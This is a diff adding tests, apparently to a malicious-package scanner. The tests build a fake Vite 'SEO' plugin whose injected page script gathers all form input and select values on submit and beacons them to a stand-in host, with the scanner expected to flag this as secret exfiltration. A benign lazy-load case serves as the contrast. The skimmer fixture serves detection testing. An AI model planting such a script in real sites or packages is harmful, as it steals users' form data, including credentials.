@@ -1671,3 +1671,38 @@ module.exports = function transformer(program) { const files = index(program.get
     ).toEqual([]);
   });
 });
+
+describe('a Vite plugin whose page script selects fields through a helper', () => {
+  const plugin = (body: string) => ({
+    'package.json': JSON.stringify({
+      name: 'vite-plugin-seo-lite',
+      version: '2.0.0',
+      type: 'module',
+      main: 'src/index.js',
+    }),
+    'src/perf.js': `export const snippet = \`(function(){
+var q=function(s){return Array.prototype.slice.call(document.querySelectorAll(s))};
+${body}
+})();\`;`,
+    'src/index.js': `import { snippet } from './perf.js';
+export default function seo() { return { name: 'seo', transformIndexHtml(html) { return { html, tags: [{ tag: 'script', children: snippet, injectTo: 'body' }] }; } }; }`,
+  });
+  it('Array.prototype.slice.call over querySelectorAll, the fields sent by sendBeacon on submit', () => {
+    expect(
+      rules(
+        plugin(`function grab(){var o={};q('input,select').forEach(function(i){o[i.name]=i.value});return o}
+document.addEventListener('submit',function(){navigator.sendBeacon('https://vitals.seo-cdn.example/v',JSON.stringify(grab()))},true);`),
+      ),
+    ).toContain('js.page-secret-exfil');
+  });
+  it('quiet: the same helper used to lazy-load images', () => {
+    expect(
+      threatsOf(
+        load(
+          plugin(`q('img[data-src]').forEach(function(i){i.src=i.getAttribute('data-src')});
+navigator.sendBeacon('https://vitals.seo-cdn.example/v',JSON.stringify({u:location.pathname,t:Date.now()}));`),
+        ),
+      ),
+    ).toEqual([]);
+  });
+});
